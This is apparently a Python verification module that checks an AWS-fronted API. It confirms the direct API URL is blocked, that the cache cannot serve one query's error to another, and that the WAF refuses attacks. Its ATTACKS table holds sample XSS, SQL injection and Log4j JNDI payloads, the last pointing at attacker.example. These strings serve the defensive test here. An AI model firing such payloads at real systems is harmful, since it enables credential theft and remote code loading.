"""The edge: nobody reaches the API around it, and it refuses attacks."""

import secrets
from urllib.parse import quote

from ops.service import MAX_ATTEMPTS, Service, fetch_machine_token
from ops.verify.check import UNDO_DRIFT, Check, CheckFailed
from ops.verify.contract import list_collections
from ops.verify.subject import Subject

LARGEST_LIMIT = 500

# Attacks that several rules of AWS's managed groups describe: cross-site scripting, SQL injection, Log4j.
ATTACKS = {
    "cross-site scripting": "<script>alert(document.cookie)</script>",
    "SQL injection": "1' OR '1'='1' UNION SELECT password FROM users--",
    "Log4j": "${jndi:ldap://attacker.example/a}",
}


def run_direct_call(subject: Subject) -> str:
    """The API's own URL refuses a request, even with a token."""
    stack = subject.stack
    direct = Service(stack.api_url, {"authorization": f"Bearer {fetch_machine_token(stack)}"})
    for path in ("/v1/openapi.json", "/v1/"):
        answer = direct.request("GET", path, attempts=MAX_ATTEMPTS)
        if answer.status != 403:
            raise CheckFailed(
                f"The API's own URL answers {answer.describe()} instead of 403.",
                f"Its web ACL must be associated with the stage. {UNDO_DRIFT}",
            )
    return "403 at the API's own URL"


def run_attack(subject: Subject) -> str:
    """Each attack gets 403 and a problem document."""
    for name, text in ATTACKS.items():
        answer = subject.client().request("GET", f"/v1/?q={quote(text)}", attempts=MAX_ATTEMPTS)
        if answer.status != 403:
            raise CheckFailed(
                f"An attack ({name}) is answered {answer.describe()} instead of 403.",
                f"The web ACL of the distribution must have the managed rule groups. {UNDO_DRIFT}",
            )
        # WAF knows no other content type for it than application/json.
        if not isinstance(answer.document, dict) or answer.document.get("status") != 403:
            raise CheckFailed(
                f"An attack ({name}) is refused without a problem document.",
                f"The web ACL must block by label with its own response. {UNDO_DRIFT}",
            )
    return f"{len(ATTACKS)} attacks refused with a problem document"


def run_cache_key(subject: Subject) -> str:
    """The 400 of a list with an unknown parameter is not the answer to the same list without it."""
    if subject.stack.parameters.get("ApiCacheSize", "off") == "off":
        return "API Gateway's cache is off"
    shared = [collection for collection in list_collections(subject.contract()) if not collection.is_private]
    if not shared:
        return "no shared collection, so nothing is cached"
    # A limit that nobody else asks for meanwhile: what is in the cache already would prove nothing.
    path = f"{shared[0].path}?limit={1 + secrets.randbelow(LARGEST_LIMIT)}"
    for query, expected in ((f"{path}&verify_{secrets.token_hex(4)}=1", 400), (path, 200)):
        answer = subject.client().request("GET", query, attempts=MAX_ATTEMPTS)
        if answer.status != expected:
            raise CheckFailed(
                f"A list {'after' if expected == 200 else 'with'} an unknown parameter answers {answer.describe()} "
                f"instead of {expected}.",
                "CloudFront must run the function QueryDigest, and its header must be in API Gateway's cache key. "
                f"{UNDO_DRIFT}",
            )
    return f"{shared[0].name}: the 400 of one list is not the answer to another"


CHECKS = [
    Check("direct-call", "the API cannot be called around CloudFront", run_direct_call),
    Check("cache-key", "API Gateway's cache gives nobody the error of another query", run_cache_key),
    Check("attack", "attacks are refused with a problem document", run_attack),
]
